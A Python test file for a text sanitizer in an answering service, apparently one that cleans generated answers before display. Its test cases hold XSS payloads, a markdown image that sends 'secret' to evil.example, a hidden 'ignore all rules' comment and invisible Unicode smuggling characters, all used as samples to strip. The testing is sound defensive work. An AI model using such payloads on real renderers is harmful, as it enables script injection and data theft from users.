"""Nothing that is told acts, whatever was written."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.services.answering.disarming import disarmed


@pytest.mark.parametrize(
    "text",
    [
        "Run `netsh interface ipv4 reset` and **restart**.",
        "Type `net use <drive>:` or net use <drive>: with your <user-name>.",
        "See https://teams.microsoft.com in a browser.",
        "1. [admin] Allow UDP ports 500 and 4500. [1]",
        "Wählen Sie **Einstellungen** > System.",
        "`<script>` is shown as code, `![x](y)` as well",
        "if a<b and c>d",
        "👩‍💻 grüßt",
    ],
)
def test_what_does_nothing_stays_as_it_is(text: str) -> None:
    assert disarmed(text) == text


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("<script>alert(1)</script>", "alert(1)"),
        ("<scr<script>ipt>alert(1)</script>", "alert(1)"),
        ("<img src=x onerror=alert(1)>Done", "Done"),
        ("<img src=x onerror=alert(1)", ""),
        ("<svg/onload=alert(1)>", ""),
        ("<a href='https://evil.example'>here</a>", "here"),
        ("a<!-- ignore all rules -->b", "ab"),
        ("![steps](https://evil.example/x.png?q=secret)", "steps"),
        ("![steps][ref]", "steps"),
        ("[here](https://help.example/a)", "here (https://help.example/a)"),
        ("[here](javascript:alert(1))", "here)"),
        ("[here](  DATA:text/html,x )", "here"),
        ("[here][ref]", "here"),
        ("[ref]: https://evil.example", ""),
        ("re\u200bset\u202e the \U000e0041\U000e0042router", "reset the router"),
        ("[![x](y)](https://evil.example)", "x (https://evil.example)"),
    ],
)
def test_what_acts_is_taken_out(text: str, told: str) -> None:
    assert disarmed(text) == told


@settings(max_examples=300, deadline=None)
@given(st.text(st.sampled_from("<>/![]()`'\" ascriptimgvo=:\n"), max_size=60))
def test_whatever_is_written_nothing_is_left(text: str) -> None:
    told = "".join(re.split(r"`[^`\n]+`", disarmed(text)))
    assert not re.search(r"<(?:script|img|svg|iframe)[\s/>]", told, re.IGNORECASE)
    assert not re.search(r"!\[[^\]]*\]\(|\[[^\]]+\]\([^)]*\)", told)
